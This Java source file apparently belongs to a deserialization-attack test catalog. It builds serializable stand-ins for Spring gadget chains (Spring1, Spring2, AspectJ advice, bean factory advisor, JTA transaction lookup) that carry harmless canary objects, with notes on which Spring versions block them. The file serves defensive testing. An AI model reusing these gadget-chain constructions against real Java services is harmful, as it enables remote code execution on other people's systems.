package io.understudy.museum.attacks;

import static io.understudy.museum.attacks.Payload.loads;
import static io.understudy.museum.attacks.Payload.runs;

import java.io.Serializable;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.lang.reflect.Type;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.springframework.aop.framework.ProxyFactory;
import org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor;
import org.springframework.aop.target.SingletonTargetSource;
import org.springframework.beans.factory.ObjectFactory;
import org.springframework.transaction.jta.JtaTransactionManager;

/** Chains of the Spring framework. */
@SuppressWarnings("serial") // Of stand-ins; the stream has the numbers of the classes they stand for.
final class SpringPayloads {

    private static final String WRAPPER = "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider";
    private static final String ONLY_FOUND = "Spring 4.2.3 and later find the method, but call it only when asked";

    private SpringPayloads() {}

    /** A method that Spring's wrapper agrees to call. */
    interface Touched {
        Type touch();
    }

    @WrittenAs(WRAPPER)
    static final class Wrapper implements Serializable {
        final Object provider;
        final String methodName = "touch";
        final int index = 0;

        Wrapper(Object provider) {
            this.provider = provider;
        }
    }

    @WrittenAs("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler")
    static final class Delegating implements InvocationHandler, Serializable {
        final Object objectFactory;

        Delegating(Object objectFactory) {
            this.objectFactory = objectFactory;
        }

        @Override
        public @Nullable Object invoke(Object proxy, Method method, Object @Nullable [] arguments) {
            return null;
        }
    }

    @WrittenAs("org.springframework.aop.aspectj.AspectJAroundAdvice")
    static final class Advice implements Serializable {}

    static List<Payload> all() {
        return List.of(
                loads("Spring1", WRAPPER, ONLY_FOUND, SpringPayloads::byFactory),
                loads("Spring2", WRAPPER, ONLY_FOUND, SpringPayloads::byProxy),
                loads(
                        "Spring AOP",
                        "org.springframework.aop.aspectj.AspectJAroundAdvice",
                        "AspectJ, which the advice needs, is not here",
                        Advice::new),
                loads(
                        "Spring advisor",
                        "org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
                        "other formats than the JDK's end it",
                        DefaultBeanFactoryPointcutAdvisor::new),
                runs("Spring JTA", "org.springframework.transaction.jta.JtaTransactionManager", SpringPayloads::jta));
    }

    private static Object provider(Object type) throws ClassNotFoundException {
        Class<?> provider = Class.forName("org.springframework.core.SerializableTypeWrapper$TypeProvider");
        return Proxy.newProxyInstance(
                provider.getClassLoader(),
                new Class<?>[] {provider},
                JdkParts.answering(Map.of("getType", new Later(type))));
    }

    private static Object byFactory() throws ClassNotFoundException {
        Object factory = JdkParts.proxy(JdkParts.answering(Map.of("getObject", new Canary())), ObjectFactory.class);
        return new Wrapper(provider(JdkParts.proxy(new Delegating(factory), Type.class, Touched.class)));
    }

    private static Object byProxy() throws ClassNotFoundException {
        ProxyFactory proxies = new ProxyFactory(Type.class);
        proxies.addInterface(Touched.class);
        proxies.setTargetSource(new SingletonTargetSource(new Canary()));
        return new Wrapper(provider(proxies.getProxy(SpringPayloads.class.getClassLoader())));
    }

    /** Looks the transaction up as soon as it is read. */
    private static Object jta() {
        JtaTransactionManager manager = new JtaTransactionManager();
        manager.setUserTransactionName("canary");
        return manager;
    }
}
